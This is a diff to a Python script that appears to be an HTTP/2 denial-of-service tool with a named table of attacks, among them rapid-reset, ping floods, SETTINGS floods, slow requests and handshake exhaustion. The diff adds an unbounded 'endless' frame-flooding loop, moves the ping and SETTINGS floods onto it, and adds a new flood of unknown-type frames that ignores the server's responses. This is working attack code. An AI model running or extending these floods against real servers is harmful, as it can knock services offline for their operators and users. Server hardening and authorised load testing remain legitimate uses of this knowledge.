@@ -20,7 +20,7 @@ from pathlib import Path
 
 PATIENCE_SECONDS = 5.0
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-DATA, HEADERS, RESET, SETTINGS, PING = 0, 1, 3, 4, 6
+DATA, HEADERS, RESET, SETTINGS, PING, NO_KIND = 0, 1, 3, 4, 6, 0x77
 END_HEADERS, ACK = 4, 1
 HEAD = 9  # Bytes of a frame's.
 CANCEL = bytes([0, 0, 0, 8])
@@ -28,8 +28,7 @@ WAITING_JOBS = 100
 SLOW_REQUESTS = 200
 SLOT_ELEMENTS = 1 << 29  # 2 GiB, and as much for the result.
 STREAMS_A_TURN = 14_800
-PINGS_A_TURN = 50_000
-SETTINGS_A_TURN = 50_000
+RECORD = 16_000  # Bytes that TLS carries at once, or a little less.
 
 
 @dataclass(frozen=True)
@@ -147,12 +146,35 @@ def rapid_reset(target: Target) -> None:
     )
 
 
+def endless(target: Target, each: bytes, answers: bool) -> None:
+    """The same frame for as long as it is taken; who leaves answers unread is not read from."""
+    piece = each * (RECORD // len(each))
+    with (
+        contextlib.suppress(ConnectionError, ssl.SSLError, TimeoutError),
+        target.connect() as connection,
+    ):
+        connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
+        while True:
+            connection.sendall(piece)
+            left = len(piece) if answers else 0
+            while left > 0:
+                got = connection.recv(1 << 16)
+                if not got:
+                    return
+                left -= len(got)
+
+
 def pings(target: Target) -> None:
-    flood(target, in_pieces(frame(PING, 0, 0, bytes(8)) for _ in range(PINGS_A_TURN)))
+    endless(target, frame(PING, 0, 0, bytes(8)), answers=True)
 
 
 def settings(target: Target) -> None:
-    flood(target, in_pieces(frame(SETTINGS, 0, 0) for _ in range(SETTINGS_A_TURN)))
+    endless(target, frame(SETTINGS, 0, 0), answers=True)
+
+
+def no_frames(target: Target) -> None:
+    """Frames of a kind that nobody knows."""
+    endless(target, frame(NO_KIND, 0, 0), answers=False)
 
 
 def hold(connection: ssl.SSLSocket) -> None:
@@ -239,6 +261,7 @@ ATTACKS: dict[str, Callable[[Target], None]] = {
     "rapid-reset": rapid_reset,
     "pings": pings,
     "settings": settings,
+    "no-frames": no_frames,
     "handshakes": handshakes,
     "waiting-jobs": waiting_jobs,
     "slow-requests": slow_requests,
